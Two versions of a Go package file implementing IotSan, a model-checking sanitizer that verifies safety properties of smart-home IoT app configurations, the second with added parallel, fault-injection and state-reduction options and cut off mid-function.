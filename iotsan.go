// Package iotsan is a from-scratch Go implementation of IotSan
// (Nguyen et al., CoNEXT 2018): a model-checking-based sanitizer that
// finds unsafe physical and cyber states in smart-home IoT systems.
//
// The pipeline mirrors the paper's architecture (Fig. 3):
//
//	sources ──Translator──▶ ir.App ──App Dependency Analyzer──▶ related sets
//	   │                                             │
//	configuration ──────────Model Generator──────────┤
//	   │                                             ▼
//	safety properties ───────────────────▶ Model Checker ──▶ Output Analyzer
//
// Analyze runs the full pipeline; the sub-packages under internal/
// expose each stage (groovy parsing, type inference, dependency
// analysis, model generation, the explicit-state checker, the property
// catalog, violation attribution, Promela emission, and the IFTTT
// front-end).
package iotsan

import (
	"fmt"
	"sort"
	"time"

	"iotsan/internal/attribution"
	"iotsan/internal/checker"
	"iotsan/internal/config"
	"iotsan/internal/depgraph"
	"iotsan/internal/ir"
	"iotsan/internal/model"
	"iotsan/internal/props"
	"iotsan/internal/smartapp"
)

// Re-exported types forming the public API surface.
type (
	// System is a deployment configuration (devices, apps, bindings).
	System = config.System
	// Device is one installed device.
	Device = config.Device
	// AppInstance is one installed app with its bindings.
	AppInstance = config.AppInstance
	// Binding is one configured input value.
	Binding = config.Binding
	// Violation is a detected property violation with its trail.
	Violation = checker.Found
	// AttributionReport is the Output Analyzer's verdict for an app.
	AttributionReport = attribution.Report
)

// Design selects the model's concurrency design (§8).
type Design = model.Design

// Designs.
const (
	Sequential = model.Sequential
	Concurrent = model.Concurrent
)

// Strategy selects the checker's search strategy.
type Strategy = checker.StrategyKind

// Strategies.
const (
	// StrategyDFS is the sequential depth-first search (default):
	// deterministic exploration order and trails.
	StrategyDFS = checker.StrategyDFS
	// StrategyParallel is the parallel breadth-first frontier search:
	// Workers goroutines expand states concurrently over a sharded
	// visited store.
	StrategyParallel = checker.StrategyParallel
)

// ParseStrategy maps a strategy name ("dfs", "parallel") to its kind.
func ParseStrategy(name string) (Strategy, error) { return checker.ParseStrategy(name) }

// Options configure an analysis run.
type Options struct {
	// MaxEvents is the number of external events the checker injects
	// (default 3).
	MaxEvents int
	// Design selects sequential (default) or concurrent modeling.
	Design Design
	// Failures enumerates device/communication failures.
	Failures bool
	// Properties selects property ids to verify (nil = the full
	// 45-property catalog).
	Properties []string
	// Thresholds parameterise numeric properties.
	Thresholds props.Thresholds
	// NoDepGraph disables related-set decomposition (ablation; the
	// whole system is checked as one group).
	NoDepGraph bool
	// Store selects the visited-state store (Exhaustive default).
	Bitstate bool
	// Strategy selects the checker search strategy (StrategyDFS
	// default; StrategyParallel uses Workers goroutines).
	Strategy Strategy
	// Workers is the number of checker goroutines for StrategyParallel
	// (0 = GOMAXPROCS).
	Workers int
	// MaxStatesPerSet caps exploration per related set (0 = 1e6).
	MaxStatesPerSet int
	// Deadline caps wall-clock time per related set.
	Deadline time.Duration
	// Interpreter runs handlers under the tree-walking interpreter
	// instead of the closure-compiled programs (the differential-testing
	// oracle; observationally identical, several times slower).
	Interpreter bool
}

func (o Options) withDefaults() Options {
	if o.MaxEvents <= 0 {
		o.MaxEvents = 3
	}
	if o.MaxStatesPerSet <= 0 {
		o.MaxStatesPerSet = 1_000_000
	}
	if o.Thresholds == (props.Thresholds{}) {
		o.Thresholds = props.DefaultThresholds()
	}
	return o
}

// GroupResult is the verification result of one related set.
type GroupResult struct {
	Apps           []string
	Handlers       int
	Result         *checker.Result
	InvariantCount int
}

// Report is the outcome of a full analysis.
type Report struct {
	// Violations are the distinct violations across all related sets.
	Violations []Violation
	// Groups holds per-related-set results.
	Groups []GroupResult
	// Scale summarises the dependency-analysis reduction (Table 7a).
	Scale depgraph.ScaleStats
	// Apps maps app names to their translations (for reuse).
	Apps map[string]*ir.App
	// Elapsed is total verification time.
	Elapsed time.Duration
}

// ViolatedProperties returns the distinct violated property ids.
func (r *Report) ViolatedProperties() []string {
	seen := map[string]bool{}
	var out []string
	for _, v := range r.Violations {
		if !seen[v.Property] {
			seen[v.Property] = true
			out = append(out, v.Property)
		}
	}
	sort.Strings(out)
	return out
}

// Translate parses and translates one smart app from Groovy source.
func Translate(source string) (*ir.App, error) { return smartapp.Translate(source) }

// Analyze verifies a configured system. sources maps app names (as they
// appear in sys.Apps) to their Groovy sources.
func Analyze(sys *System, sources map[string]string, opts Options) (*Report, error) {
	opts = opts.withDefaults()
	if err := sys.Validate(); err != nil {
		return nil, err
	}

	apps := map[string]*ir.App{}
	for name, src := range sources {
		app, err := smartapp.Translate(src)
		if err != nil {
			return nil, fmt.Errorf("iotsan: translating %q: %w", name, err)
		}
		apps[name] = app
	}
	for _, inst := range sys.Apps {
		if apps[inst.App] == nil {
			return nil, fmt.Errorf("iotsan: no source for installed app %q", inst.App)
		}
	}
	return analyzeTranslated(sys, apps, opts)
}

// AnalyzeTranslated verifies a system whose apps are already translated.
func AnalyzeTranslated(sys *System, apps map[string]*ir.App, opts Options) (*Report, error) {
	return analyzeTranslated(sys, apps, opts.withDefaults())
}

func analyzeTranslated(sys *System, apps map[string]*ir.App, opts Options) (*Report, error) {
	start := time.Now()
	rep := &Report{Apps: apps}

	// App Dependency Analyzer (§5): group installed apps into related
	// sets via their handlers' input/output events.
	var handlers []smartapp.HandlerInfo
	handlerApp := map[int]string{} // handler index → installed app name
	for _, inst := range sys.Apps {
		for _, hi := range smartapp.AnalyzeHandlers(apps[inst.App]) {
			handlerApp[len(handlers)] = inst.App
			handlers = append(handlers, hi)
		}
	}
	rep.Scale = depgraph.Scale(handlers)

	groups := relatedAppGroups(sys, handlers, handlerApp, opts.NoDepGraph)

	seen := map[string]bool{}
	for _, groupApps := range groups {
		sub := subSystem(sys, groupApps)
		gr, err := verifyGroup(sub, apps, opts)
		if err != nil {
			return nil, err
		}
		rep.Groups = append(rep.Groups, *gr)
		for _, f := range gr.Result.Violations {
			if f.Property == model.PropExecError {
				continue
			}
			key := f.Property + "\x00" + f.Detail
			if !seen[key] {
				seen[key] = true
				rep.Violations = append(rep.Violations, f)
			}
		}
	}
	rep.Elapsed = time.Since(start)
	return rep, nil
}

// relatedAppGroups converts handler-level related sets into groups of
// installed app names.
func relatedAppGroups(sys *System, handlers []smartapp.HandlerInfo, handlerApp map[int]string, noDepGraph bool) [][]string {
	if noDepGraph {
		var all []string
		for _, inst := range sys.Apps {
			all = append(all, inst.App)
		}
		return [][]string{dedupe(all)}
	}
	g := depgraph.Build(handlers)
	// Map each graph vertex back to installed app names by matching the
	// handler infos.
	idxOf := map[string]int{}
	for i, h := range handlers {
		idxOf[fmt.Sprintf("%s/%s/%p", h.App.Name, h.Handler, h.App)] = i
	}
	var groups [][]string
	seenGroups := map[string]bool{}
	for _, rs := range g.FinalSets() {
		var names []string
		for _, hi := range g.Handlers(rs) {
			key := fmt.Sprintf("%s/%s/%p", hi.App.Name, hi.Handler, hi.App)
			if i, ok := idxOf[key]; ok {
				names = append(names, handlerApp[i])
			}
		}
		names = dedupe(names)
		k := fmt.Sprint(names)
		if !seenGroups[k] && len(names) > 0 {
			seenGroups[k] = true
			groups = append(groups, names)
		}
	}
	return groups
}

func dedupe(in []string) []string {
	seen := map[string]bool{}
	var out []string
	for _, s := range in {
		if !seen[s] {
			seen[s] = true
			out = append(out, s)
		}
	}
	sort.Strings(out)
	return out
}

// subSystem restricts a configuration to the given apps, keeping every
// device (associations drive property compilation).
func subSystem(sys *System, appNames []string) *System {
	want := map[string]bool{}
	for _, n := range appNames {
		want[n] = true
	}
	sub := &System{
		Name: sys.Name, Modes: sys.Modes, Mode: sys.Mode,
		Devices: sys.Devices, Phones: sys.Phones,
	}
	for _, inst := range sys.Apps {
		if want[inst.App] {
			sub.Apps = append(sub.Apps, inst)
		}
	}
	return sub
}

func verifyGroup(sub *System, apps map[string]*ir.App, opts Options) (*GroupResult, error) {
	invs, err := props.CompileInvariants(sub, filterPhysical(opts.Properties), opts.Thresholds)
	if err != nil {
		return nil, err
	}
	sel := propertySelection(opts.Properties)

	m, err := model.New(sub, apps, model.Options{
		Design:          opts.Design,
		MaxEvents:       opts.MaxEvents,
		Failures:        opts.Failures,
		CheckConflicts:  sel[model.PropConflicting] || sel[model.PropRepeated],
		CheckLeakage:    sel[model.PropLeakNetwork],
		CheckRobustness: opts.Failures && sel[model.PropRobustness],
		Invariants:      invs,
		RelevantAttrs:   relevantAttrs(sub, apps),
		Interpreter:     opts.Interpreter,
	})
	if err != nil {
		return nil, err
	}

	copts := checker.Options{
		MaxDepth:  opts.MaxEvents + 64,
		MaxStates: opts.MaxStatesPerSet,
		Deadline:  opts.Deadline,
		Strategy:  opts.Strategy,
		Workers:   opts.Workers,
	}
	if opts.Bitstate {
		copts.Store = checker.Bitstate
	}
	res := checker.Run(m.System(), copts)

	var names []string
	handlers := 0
	for _, inst := range sub.Apps {
		names = append(names, inst.App)
		handlers += len(apps[inst.App].HandlerNames())
	}
	return &GroupResult{Apps: names, Handlers: handlers, Result: res, InvariantCount: len(invs)}, nil
}

// propertySelection returns a predicate set over property ids; a nil
// selection enables everything.
func propertySelection(ids []string) map[string]bool {
	sel := map[string]bool{}
	if ids == nil {
		for _, id := range props.IDs() {
			sel[id] = true
		}
		return sel
	}
	for _, id := range ids {
		sel[id] = true
	}
	return sel
}

func filterPhysical(ids []string) []string {
	if ids == nil {
		return nil
	}
	var out []string
	for _, id := range ids {
		if p, ok := props.ByID(id); ok && p.Kind == props.Physical {
			out = append(out, id)
		}
	}
	return out
}

// relevantAttrs computes the sensor attributes worth generating events
// for: those the installed apps subscribe to or read, plus those the
// applicable properties observe.
func relevantAttrs(sys *System, apps map[string]*ir.App) map[string]bool {
	attrs := map[string]bool{}
	for _, inst := range sys.Apps {
		app := apps[inst.App]
		if app == nil {
			continue
		}
		for _, hi := range smartapp.AnalyzeHandlers(app) {
			for _, in := range hi.Inputs {
				attrs[in.Attr] = true
			}
		}
	}
	// Properties observe presence/smoke/co/water/motion/etc.; include
	// the sensed attributes of the devices that applicable properties
	// reference, so missing-response violations remain reachable.
	for _, p := range props.Catalog() {
		if p.Kind != props.Physical || !p.Applicable(sys) {
			continue
		}
		for _, capName := range p.Capabilities {
			addSensedAttrs(attrs, capName)
		}
	}
	// anyone_home guards most properties: presence must vary if present.
	attrs["presence"] = true
	return attrs
}

func addSensedAttrs(attrs map[string]bool, capName string) {
	c := deviceCap(capName)
	if c == nil || !c.Sensor {
		return
	}
	for _, a := range c.Attributes {
		attrs[a.Name] = true
	}
}

// Attribute runs the Output Analyzer for a newly installed app (§9).
func Attribute(sys *System, newAppSource string, installedSources map[string]string, opts attribution.Options) (*AttributionReport, error) {
	newApp, err := smartapp.Translate(newAppSource)
	if err != nil {
		return nil, err
	}
	apps := map[string]*ir.App{newApp.Name: newApp}
	for name, src := range installedSources {
		a, err := smartapp.Translate(src)
		if err != nil {
			return nil, fmt.Errorf("iotsan: translating %q: %w", name, err)
		}
		apps[name] = a
	}
	return attribution.AttributeNewApp(sys, newApp, apps, opts)
}
