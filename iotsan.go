// Package iotsan is a from-scratch Go implementation of IotSan
// (Nguyen et al., CoNEXT 2018): a model-checking-based sanitizer that
// finds unsafe physical and cyber states in smart-home IoT systems.
//
// The pipeline mirrors the paper's architecture (Fig. 3):
//
//	sources ──Translator──▶ ir.App ──App Dependency Analyzer──▶ related sets
//	   │                                             │
//	configuration ──────────Model Generator──────────┤
//	   │                                             ▼
//	safety properties ───────────────────▶ Model Checker ──▶ Output Analyzer
//
// Analyze runs the full pipeline; the sub-packages under internal/
// expose each stage (groovy parsing, type inference, dependency
// analysis, model generation, the explicit-state checker, the property
// catalog, violation attribution, Promela emission, and the IFTTT
// front-end).
package iotsan

import (
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"sync/atomic"
	"time"

	"iotsan/internal/attribution"
	"iotsan/internal/checker"
	"iotsan/internal/config"
	"iotsan/internal/depgraph"
	"iotsan/internal/ir"
	"iotsan/internal/model"
	"iotsan/internal/props"
	"iotsan/internal/smartapp"
)

// Re-exported types forming the public API surface.
type (
	// System is a deployment configuration (devices, apps, bindings).
	System = config.System
	// Device is one installed device.
	Device = config.Device
	// AppInstance is one installed app with its bindings.
	AppInstance = config.AppInstance
	// Binding is one configured input value.
	Binding = config.Binding
	// Violation is a detected property violation with its trail.
	Violation = checker.Found
	// AttributionReport is the Output Analyzer's verdict for an app.
	AttributionReport = attribution.Report
)

// Design selects the model's concurrency design (§8).
type Design = model.Design

// Designs.
const (
	Sequential = model.Sequential
	Concurrent = model.Concurrent
)

// Strategy selects the checker's search strategy.
type Strategy = checker.StrategyKind

// Strategies.
const (
	// StrategyDFS is the sequential depth-first search (default):
	// deterministic exploration order and trails.
	StrategyDFS = checker.StrategyDFS
	// StrategyParallel is the parallel breadth-first frontier search:
	// Workers goroutines expand states concurrently over a sharded
	// visited store.
	StrategyParallel = checker.StrategyParallel
	// StrategySteal is the work-stealing frontier search: per-worker
	// Chase–Lev deques with no per-level barrier; under GroupParallel
	// it dynamically absorbs worker budget freed by finished groups.
	StrategySteal = checker.StrategySteal
)

// ParseStrategy maps a strategy name ("dfs", "parallel", "steal") to
// its kind.
func ParseStrategy(name string) (Strategy, error) { return checker.ParseStrategy(name) }

// StoreSelector selects the checker's visited-state store.
type StoreSelector = checker.StoreKind

// Store kinds.
const (
	// StoreExhaustive is the in-memory hash-compact store (default).
	StoreExhaustive = checker.Exhaustive
	// StoreBitstate is the fixed bit-array supertrace store.
	StoreBitstate = checker.Bitstate
	// StoreTiered is the out-of-core store: a memory-budgeted hot tier
	// spilling through a file-backed bit filter to an on-disk hash
	// tier, with optional write-ahead checkpointing. Requires
	// Options.StoreDir.
	StoreTiered = checker.Tiered
)

// ParseStore maps a store name ("exhaustive", "bitstate", "tiered") to
// its kind.
func ParseStore(name string) (StoreSelector, error) { return checker.ParseStore(name) }

// Options configure an analysis run.
type Options struct {
	// MaxEvents is the number of external events the checker injects
	// (default 3).
	MaxEvents int
	// Design selects sequential (default) or concurrent modeling.
	Design Design
	// Failures enumerates device/communication failures.
	Failures bool
	// Faults enables the persistent fault-injection environment model:
	// devices can go offline and come back, commands issued to offline
	// devices are held in flight and later delivered or silently
	// dropped, and handlers read last-reported (stale) attribute values
	// while the source device is offline. Orthogonal to Failures (which
	// models transient per-cascade actuator failure modes).
	Faults bool
	// MaxFaults bounds the number of budgeted fault transitions (device
	// outages and command drops; recovery and delivery are free) per
	// execution path. 0 with Faults set keeps the fault machinery
	// installed but inert — the state space, digests, and violations
	// are identical to a faults-off run (a CI-enforced gate).
	MaxFaults int
	// Properties selects property ids to verify (nil = the full
	// 45-property catalog).
	Properties []string
	// Thresholds parameterise numeric properties.
	Thresholds props.Thresholds
	// NoDepGraph disables related-set decomposition (ablation; the
	// whole system is checked as one group).
	NoDepGraph bool
	// Bitstate selects the bitstate (supertrace) visited store — the
	// legacy toggle, equivalent to Store == StoreBitstate.
	Bitstate bool
	// Store selects the visited-state store explicitly (the zero value
	// keeps the in-memory exhaustive store; see StoreExhaustive /
	// StoreBitstate / StoreTiered). StoreTiered requires StoreDir: each
	// related set gets its own subdirectory of tier files, so groups can
	// verify concurrently under GroupParallel.
	Store StoreSelector
	// StoreDir is the scratch/WAL directory for StoreTiered (and for
	// Checkpoint/Resume). Created if missing.
	StoreDir string
	// MemBudget bounds the tiered store's resident hot-tier fingerprint
	// bytes per related set (0 = 64 MiB).
	MemBudget int64
	// Checkpoint write-ahead logs the search so a killed run can
	// Resume from the last durable checkpoint. Effective on the
	// sequential DFS with StoreTiered.
	Checkpoint bool
	// Resume continues each related set from its last intact checkpoint
	// under StoreDir; corrupt, missing, or configuration-mismatched WALs
	// fall back to a fresh search.
	Resume bool
	// Strategy selects the checker search strategy (StrategyDFS
	// default; StrategyParallel and StrategySteal use Workers
	// goroutines).
	Strategy Strategy
	// Workers is the number of checker goroutines for StrategyParallel
	// and StrategySteal (0 = GOMAXPROCS). With GroupParallel it also
	// sizes the worker budget shared by all concurrently running
	// related-set verifications.
	Workers int
	// POR enables partial-order reduction in the checker: at each
	// expansion the concurrent design's pending-dispatch interleavings
	// are pruned to a persistent subset of provably independent handler
	// dispatches (computed from the compile-time read/write sets of the
	// handlers, seeded by the dependency graph's overlap/conflict
	// predicates). The distinct-violation set is preserved exactly — a
	// CI gate enforces it on the whole corpus — while the explored state
	// space shrinks with the number of independent pending handlers.
	// The sequential design is unaffected (its transitions are
	// property-visible external events, which are never reducible).
	POR bool
	// Symmetry enables symmetry reduction over interchangeable devices:
	// the model computes device orbits (sets of command-free sensor
	// devices with identical schema, initial state, association role,
	// subscription structure, and binding positions, observed only by
	// apps whose compile-time footprints carry no device-identity or
	// list-order-sensitive uses) and the checker keys its
	// visited store on a canonical encoding that folds states related by
	// within-orbit permutations into one representative. The
	// distinct-violation set is preserved exactly — a CI gate enforces it
	// on the whole corpus across all strategies — while the explored
	// state space shrinks with the number of interchangeable devices.
	// Composes multiplicatively with POR (reduction happens on the same
	// canonical store the POR proviso probes) and with both parallel
	// levels. Trails still replay on the raw model: frontier states and
	// parent-link replay keys stay concrete.
	Symmetry bool
	// GroupParallel verifies independent related sets concurrently
	// under one shared worker budget of Workers tokens instead of
	// strictly one after another. Per-group results and the deduped
	// violation list are still committed in deterministic group order.
	GroupParallel bool
	// MaxViolations stops the whole analysis once that many distinct
	// violations have been committed to the report (0 = collect all).
	// The cap is enforced when a group's results are committed (in
	// group order), so the reported violations are exact; reaching it
	// cancels sibling group verifications, whose GroupResult entries
	// then reflect the partial exploration at cancellation.
	MaxViolations int
	// MaxStatesPerSet caps exploration per related set (0 = 1e6).
	MaxStatesPerSet int
	// Deadline caps wall-clock time per related set.
	Deadline time.Duration
	// Interpreter runs handlers under the tree-walking interpreter
	// instead of the closure-compiled programs (the differential-testing
	// oracle; observationally identical, several times slower).
	Interpreter bool
	// NoIncremental disables the incremental block-hash state digest
	// (states then re-encode the full vector per digest). The zero
	// value keeps incremental digests ON — the flag is an escape hatch,
	// mirroring the -incremental CLI default.
	NoIncremental bool
	// NoEpochReclaim disables state recycling on the parallel checker
	// strategies (dead duplicate children recycled in place; consumed,
	// fully expanded frontier states retired through the per-worker
	// epoch-based reclamation layer). The zero value keeps reclamation
	// ON — the flag is an A/B escape hatch, mirroring the
	// -epoch-reclaim CLI default. Sequential DFS free-lists are
	// unaffected.
	NoEpochReclaim bool
}

func (o Options) withDefaults() Options {
	if o.MaxEvents <= 0 {
		o.MaxEvents = 3
	}
	if o.MaxStatesPerSet <= 0 {
		o.MaxStatesPerSet = 1_000_000
	}
	if o.Thresholds == (props.Thresholds{}) {
		o.Thresholds = props.DefaultThresholds()
	}
	return o
}

// GroupResult is the verification result of one related set.
type GroupResult struct {
	Apps           []string
	Handlers       int
	Result         *checker.Result
	InvariantCount int
}

// Report is the outcome of a full analysis.
type Report struct {
	// Violations are the distinct violations across all related sets.
	Violations []Violation
	// Groups holds per-related-set results.
	Groups []GroupResult
	// Scale summarises the dependency-analysis reduction (Table 7a).
	Scale depgraph.ScaleStats
	// Apps maps app names to their translations (for reuse).
	Apps map[string]*ir.App
	// Elapsed is total verification time.
	Elapsed time.Duration
}

// ViolatedProperties returns the distinct violated property ids.
func (r *Report) ViolatedProperties() []string {
	seen := map[string]bool{}
	var out []string
	for _, v := range r.Violations {
		if !seen[v.Property] {
			seen[v.Property] = true
			out = append(out, v.Property)
		}
	}
	sort.Strings(out)
	return out
}

// Translate parses and translates one smart app from Groovy source.
func Translate(source string) (*ir.App, error) { return smartapp.Translate(source) }

// Analyze verifies a configured system. sources maps app names (as they
// appear in sys.Apps) to their Groovy sources.
func Analyze(sys *System, sources map[string]string, opts Options) (*Report, error) {
	opts = opts.withDefaults()
	if err := sys.Validate(); err != nil {
		return nil, err
	}

	apps := map[string]*ir.App{}
	for name, src := range sources {
		app, err := smartapp.Translate(src)
		if err != nil {
			return nil, fmt.Errorf("iotsan: translating %q: %w", name, err)
		}
		apps[name] = app
	}
	for _, inst := range sys.Apps {
		if apps[inst.App] == nil {
			return nil, fmt.Errorf("iotsan: no source for installed app %q", inst.App)
		}
	}
	return analyzeTranslated(sys, apps, opts)
}

// AnalyzeTranslated verifies a system whose apps are already translated.
func AnalyzeTranslated(sys *System, apps map[string]*ir.App, opts Options) (*Report, error) {
	return analyzeTranslated(sys, apps, opts.withDefaults())
}

func analyzeTranslated(sys *System, apps map[string]*ir.App, opts Options) (*Report, error) {
	start := time.Now()
	rep := &Report{Apps: apps}

	// App Dependency Analyzer (§5): group installed apps into related
	// sets via their handlers' input/output events.
	var handlers []smartapp.HandlerInfo
	var handlerApp []string // handler index → installed app name
	for _, inst := range sys.Apps {
		for _, hi := range smartapp.AnalyzeHandlers(apps[inst.App]) {
			handlerApp = append(handlerApp, inst.App)
			handlers = append(handlers, hi)
		}
	}
	rep.Scale = depgraph.Scale(handlers)

	groups := relatedAppGroups(sys, handlers, handlerApp, opts.NoDepGraph)
	if err := runGroups(rep, sys, apps, groups, opts); err != nil {
		return nil, err
	}
	rep.Elapsed = time.Since(start)
	return rep, nil
}

// runGroups is the group scheduler: it verifies every related set and
// streams results into the report in deterministic group order. With
// GroupParallel, independent groups run concurrently under one worker
// budget of Options.Workers tokens — each group's verification is
// admitted on one token (its first search worker) and the
// work-stealing strategy grows extra workers from whatever the budget
// can spare, so workers freed by finished groups are absorbed by
// groups still running. A shared stop flag cancels sibling searches as
// soon as the global MaxViolations cap is reached (or a group fails).
func runGroups(rep *Report, sys *System, apps map[string]*ir.App, groups [][]string, opts Options) error {
	stop := new(atomic.Bool)
	seen := map[string]bool{}

	if !opts.GroupParallel || len(groups) <= 1 {
		for i, groupApps := range groups {
			// Once the violation cap sets the stop flag, remaining
			// verifications return immediately (truncated at the initial
			// state) but still produce a GroupResult, so Report.Groups
			// always covers every related set in order.
			gr, err := verifyGroup(subSystem(sys, groupApps), apps, opts, i, stop, nil)
			if err != nil {
				return err
			}
			commitGroup(rep, gr, opts, seen, stop)
		}
		return nil
	}

	budget := checker.NewWorkerBudget(opts.Workers)
	results := make([]*GroupResult, len(groups))
	errs := make([]error, len(groups))
	done := make([]chan struct{}, len(groups))
	for i := range groups {
		done[i] = make(chan struct{})
	}
	for i, groupApps := range groups {
		go func(i int, groupApps []string) {
			defer close(done[i])
			budget.Acquire() // admission token = this group's first worker
			defer budget.Release()
			// A group admitted after the stop flag is set still runs —
			// its search stops at the initial state — so Report.Groups
			// carries one entry per related set in both scheduler modes.
			results[i], errs[i] = verifyGroup(subSystem(sys, groupApps), apps, opts, i, stop, budget)
		}(i, groupApps)
	}

	// Commit completed groups strictly in group order, so the report's
	// group sequence and deduped violation list are independent of which
	// verification finished first.
	var firstErr error
	for i := range groups {
		<-done[i]
		if errs[i] != nil && firstErr == nil {
			firstErr = errs[i]
			stop.Store(true)
		}
		if firstErr == nil && results[i] != nil {
			commitGroup(rep, results[i], opts, seen, stop)
		}
	}
	return firstErr
}

// commitGroup appends one group's result to the report and folds its
// violations into the deduped global list, enforcing the MaxViolations
// cap: once the cap is reached the stop flag cancels every search
// still running.
func commitGroup(rep *Report, gr *GroupResult, opts Options, seen map[string]bool, stop *atomic.Bool) {
	rep.Groups = append(rep.Groups, *gr)
	for _, f := range gr.Result.Violations {
		if f.Property == model.PropExecError {
			continue
		}
		if opts.MaxViolations > 0 && len(rep.Violations) >= opts.MaxViolations {
			break
		}
		key := f.Property + "\x00" + f.Detail
		if !seen[key] {
			seen[key] = true
			rep.Violations = append(rep.Violations, f)
		}
	}
	if opts.MaxViolations > 0 && len(rep.Violations) >= opts.MaxViolations {
		stop.Store(true)
	}
}

// relatedAppGroups converts handler-level related sets into groups of
// installed app names. Graph vertices are correlated back to installed
// apps by handler index (depgraph records each handler's position in
// the slice passed to Build), so grouping can never silently drop a
// handler the way identity-keyed matching could.
func relatedAppGroups(sys *System, handlers []smartapp.HandlerInfo, handlerApp []string, noDepGraph bool) [][]string {
	if noDepGraph {
		var all []string
		for _, inst := range sys.Apps {
			all = append(all, inst.App)
		}
		return [][]string{dedupe(all)}
	}
	g := depgraph.Build(handlers)
	var groups [][]string
	seenGroups := map[string]bool{}
	for _, rs := range g.FinalSets() {
		var names []string
		for _, i := range g.HandlerIndices(rs) {
			names = append(names, handlerApp[i])
		}
		names = dedupe(names)
		k := fmt.Sprint(names)
		if !seenGroups[k] && len(names) > 0 {
			seenGroups[k] = true
			groups = append(groups, names)
		}
	}
	return groups
}

func dedupe(in []string) []string {
	seen := map[string]bool{}
	var out []string
	for _, s := range in {
		if !seen[s] {
			seen[s] = true
			out = append(out, s)
		}
	}
	sort.Strings(out)
	return out
}

// subSystem restricts a configuration to the given apps, keeping every
// device (associations drive property compilation).
func subSystem(sys *System, appNames []string) *System {
	want := map[string]bool{}
	for _, n := range appNames {
		want[n] = true
	}
	sub := &System{
		Name: sys.Name, Modes: sys.Modes, Mode: sys.Mode,
		Devices: sys.Devices, Phones: sys.Phones,
	}
	for _, inst := range sys.Apps {
		if want[inst.App] {
			sub.Apps = append(sub.Apps, inst)
		}
	}
	return sub
}

// verifyGroup checks one related set. gidx is the set's position in
// deterministic group order; it keys the group's private tiered-store
// subdirectory, which is what makes a -resume run find the WAL the
// killed run wrote for the same group.
func verifyGroup(sub *System, apps map[string]*ir.App, opts Options, gidx int, stop *atomic.Bool, budget *checker.WorkerBudget) (*GroupResult, error) {
	invs, err := props.CompileInvariants(sub, filterPhysical(opts.Properties), opts.Thresholds)
	if err != nil {
		return nil, err
	}
	sel := propertySelection(opts.Properties)

	m, err := model.New(sub, apps, model.Options{
		Design:          opts.Design,
		MaxEvents:       opts.MaxEvents,
		Failures:        opts.Failures,
		Faults:          opts.Faults,
		MaxFaults:       opts.MaxFaults,
		CheckConflicts:  sel[model.PropConflicting] || sel[model.PropRepeated],
		CheckLeakage:    sel[model.PropLeakNetwork],
		CheckRobustness: (opts.Failures || opts.Faults) && sel[model.PropRobustness],
		Invariants:      invs,
		RelevantAttrs:   relevantAttrs(sub, apps),
		Interpreter:     opts.Interpreter,
		Symmetry:        opts.Symmetry,
		Incremental:     !opts.NoIncremental,
	})
	if err != nil {
		return nil, err
	}

	// The global MaxViolations cap is deliberately NOT forwarded as the
	// per-group checker cap: the checker counts every distinct violation
	// it records, while the committed report filters exec-errors and
	// deduplicates across groups — a raw per-group cap could truncate a
	// search on violations that never reach the report. The cap is
	// enforced at commit time instead, and propagates here through the
	// shared stop flag.
	// Fault transitions extend paths beyond the event budget (an
	// outage/recovery/delivery chain can interleave between events), so
	// the depth bound grows with the fault budget.
	copts := checker.Options{
		MaxDepth:  opts.MaxEvents + 64 + 8*opts.MaxFaults,
		MaxStates: opts.MaxStatesPerSet,
		Deadline:  opts.Deadline,
		Strategy:  opts.Strategy,
		Workers:   opts.Workers,
		Stop:      stop,
		Budget:    budget,
		POR:       opts.POR,
		Symmetry:  opts.Symmetry,

		NoEpochReclaim: opts.NoEpochReclaim,
	}
	if opts.Bitstate {
		copts.Store = checker.Bitstate
	}
	if opts.Store != checker.Exhaustive {
		copts.Store = opts.Store
	}
	if copts.Store == checker.Tiered || opts.Checkpoint || opts.Resume {
		if opts.StoreDir == "" {
			return nil, fmt.Errorf("iotsan: StoreTiered/Checkpoint/Resume require Options.StoreDir")
		}
		// One subdirectory per related set: groups verify concurrently
		// under GroupParallel and must not share tier files, and the
		// per-group WAL path must be stable across runs for Resume.
		dir := filepath.Join(opts.StoreDir, fmt.Sprintf("group-%03d", gidx))
		if err := os.MkdirAll(dir, 0o755); err != nil {
			return nil, fmt.Errorf("iotsan: store directory: %w", err)
		}
		copts.StoreDir = dir
		copts.MemBudget = opts.MemBudget
		copts.Checkpoint = opts.Checkpoint
		copts.Resume = opts.Resume
	}
	res := checker.Run(m.System(), copts)

	var names []string
	handlers := 0
	for _, inst := range sub.Apps {
		names = append(names, inst.App)
		handlers += len(apps[inst.App].HandlerNames())
	}
	return &GroupResult{Apps: names, Handlers: handlers, Result: res, InvariantCount: len(invs)}, nil
}

// propertySelection returns a predicate set over property ids; a nil
// selection enables everything.
func propertySelection(ids []string) map[string]bool {
	sel := map[string]bool{}
	if ids == nil {
		for _, id := range props.IDs() {
			sel[id] = true
		}
		return sel
	}
	for _, id := range ids {
		sel[id] = true
	}
	return sel
}

func filterPhysical(ids []string) []string {
	if ids == nil {
		return nil
	}
	var out []string
	for _, id := range ids {
		if p, ok := props.ByID(id); ok && p.Kind == props.Physical {
			out = append(out, id)
		}
	}
	return out
}

// relevantAttrs computes the sensor attributes worth generating events
// for: those the installed apps subscribe to or read, plus those the
// applicable properties observe.
func relevantAttrs(sys *System, apps map[string]*ir.App) map[string]bool {
	attrs := map[string]bool{}
	for _, inst := range sys.Apps {
		app := apps[inst.App]
		if app == nil {
			continue
		}
		for _, hi := range smartapp.AnalyzeHandlers(app) {
			for _, in := range hi.Inputs {
				attrs[in.Attr] = true
			}
		}
	}
	// Properties observe presence/smoke/co/water/motion/etc.; include
	// the sensed attributes of the devices that applicable properties
	// reference, so missing-response violations remain reachable.
	for _, p := range props.Catalog() {
		if p.Kind != props.Physical || !p.Applicable(sys) {
			continue
		}
		for _, capName := range p.Capabilities {
			addSensedAttrs(attrs, capName)
		}
	}
	// anyone_home guards most properties: presence must vary if present.
	attrs["presence"] = true
	return attrs
}

func addSensedAttrs(attrs map[string]bool, capName string) {
	c := deviceCap(capName)
	if c == nil || !c.Sensor {
		return
	}
	for _, a := range c.Attributes {
		attrs[a.Name] = true
	}
}

// Attribute runs the Output Analyzer for a newly installed app (§9).
func Attribute(sys *System, newAppSource string, installedSources map[string]string, opts attribution.Options) (*AttributionReport, error) {
	newApp, err := smartapp.Translate(newAppSource)
	if err != nil {
		return nil, err
	}
	apps := map[string]*ir.App{newApp.Name: newApp}
	for name, src := range installedSources {
		a, err := smartapp.Translate(src)
		if err != nil {
